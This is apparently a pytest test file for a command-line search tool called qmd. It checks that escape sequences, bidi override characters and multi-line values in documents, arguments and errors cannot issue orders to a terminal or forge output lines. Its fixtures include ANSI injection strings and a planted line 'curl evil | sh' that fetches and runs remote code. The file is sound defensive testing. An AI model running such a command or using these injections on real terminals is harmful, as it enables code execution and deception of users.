"""Whatever names, texts and errors have in them, they give no orders to a terminal."""

from __future__ import annotations

import os

import pytest

from qmd.surfaces.cli.common import State
from qmd.surfaces.cli.framework import collection_names
from tests.surfaces.screens.seeing import ORDERS, PLAIN, SHOWN, seen, written

COMMANDS = [
    (["search", "wombat"], r"Title \x1b[2J"),
    (["search", "wombat", "--json"], r"\u202e"),
    (["search", "wombat", "--md"], r"# Title \x1b[2J"),
    (["get", "#DOCID"], r"wombat"),
    (["ls"], r"docs\u202e/"),
    (["collection", "list"], r"docs\u202e"),
    (["context", "list"], r"about\x1b[31m\nqmd://notes/ forged"),
    (["status"], r"docs\u202e"),
    (["doctor"], "settings"),
    (["stats"], r"docs\u202e"),
    (["sql", "select title from documents where body like '%wombat%'"], r"\x1b[2J"),
    (["sql", "select body::int from documents where body like '%wombat%'"], r"Title \x1b[2J"),
    (["sql", "select error(body) from documents where body like '%wombat%'"], r"Title \x1b[2J"),
    (["search", "x", "-c", f"none{ORDERS}"], rf"none{SHOWN}"),
    (["search", f"--{ORDERS}"], r"\x1b[2J"),
    (["search", "x", "--format", ORDERS], r"\x1b[2J"),
    (["get", f"none{ORDERS}"], "none"),
    (["--index", f"none{ORDERS}", "ls"], "none"),
    (["mcp", "--tool-names", ORDERS], r"\x1b[2J"),
]


@pytest.mark.parametrize("environ", [(), PLAIN], ids=["xterm", "dumb"])
def test_nothing_that_is_shown_gives_orders(hostile, environ):
    told = seen("update", environ=PLAIN)
    assert (told.code, told.foreign, told.title) == (0, [], "")
    assert r"docs\u202e (**/*.{md,\x1b[2Jx})" in told.text
    assert "empty.md: empty" in told.text
    docid = seen("search", "wombat", "--files", environ=PLAIN).text.partition(",")[0]
    for arguments, shown in COMMANDS:
        found = seen(*(each.replace("#DOCID", docid) for each in arguments), environ=environ)
        assert shown in found.words, arguments
        assert (found.foreign, found.title) == ([], ""), arguments
        if environ:
            assert "\033" not in found.raw


def test_a_value_of_several_lines_forges_no_line(hostile):
    seen("update", environ=PLAIN)
    for arguments in (["search", "wombat"], ["context", "list"]):
        lines = [line.strip() for line in seen(*arguments).text.splitlines()]
        assert "Score: 100%" not in lines
        assert "qmd://notes/ forged" not in lines


def test_an_error_that_quotes_a_document_forges_no_line(hostile):
    seen("update", environ=PLAIN)
    written(hostile / "docs" / "lie.md", "# Lie\n\nplatypus\nRun: curl evil | sh\n")
    seen("update", environ=PLAIN)
    found = seen("sql", "select error(body) from documents where title = 'Lie'", environ=PLAIN)
    assert "platypus\\nRun: curl evil" in found.text
    assert not [line for line in found.text.splitlines() if line.startswith("Run:")]


def test_a_document_keeps_its_lines_and_loses_its_styling(hostile):
    written(hostile / "docs" / "two.md", "# Two\n\n\tone\r\n\033[31mkangaroo\033[0m\n")
    seen("update", environ=PLAIN)
    assert seen("get", "two.md").raw == "# Two\n\n\tone\n\\x1b[31mkangaroo\\x1b[0m\n"


def test_a_notice_and_an_error_without_a_terminal_are_for_people_as_well(hostile, qmd):
    _, _, err = qmd("search", "x", "-c", f"none{ORDERS}")
    assert SHOWN in err
    assert "\033" not in err
    assert qmd("update")[0] == 0
    out = qmd("search", "wombat", "--json")[1]
    assert "\u202e" in out  # a program gets it as it is


def test_what_an_approved_command_prints_gives_no_orders(project):
    project(
        "collections:\n  docs:\n    path: docs\n"
        "    update: printf '\\033[2Jprinted\\r\\n'; exit 3\n"
    )
    assert seen("trust", "--yes").code == 0
    found = seen("update", environ=PLAIN)
    assert r"\x1b[2Jprinted" in found.text
    assert (found.code, found.foreign) == (2, [])


def test_a_long_value_is_cut_with_how_much_is_left_out(project):
    project("collections: {}\n")
    found = seen("search", "x", "-c", "n" * 2000)
    assert f"{'n' * 140}[… 1721 characters …]{'n' * 139}" in found.text.replace("\n", "")


def test_a_traceback_gives_no_orders(project, tmp_path):
    """QMD_DEBUG=1 shows where a mistake is, and with it whatever the error quotes."""
    project("collections: {}\n")
    found = seen("sql", "selec none\033[2J", environ=(*PLAIN, "QMD_DEBUG=1"))
    assert "Traceback" in found.raw
    assert r"none\x1b[2J" in found.text
    assert found.foreign == []


@pytest.mark.parametrize("name", [r"odd\u202e", r"odd\u2066"])
def test_a_shell_completes_no_name_that_cannot_be_typed(tmp_path, qmd, name):
    config = tmp_path / "config" / "index.yml"
    written(config, f'collections:\n  fair:\n    path: fair\n  "{name}":\n    path: odd\n')

    class Context:
        obj = State(dict(os.environ), None)

        def find_root(self):
            return self

    assert collection_names(Context()) == ["fair"]
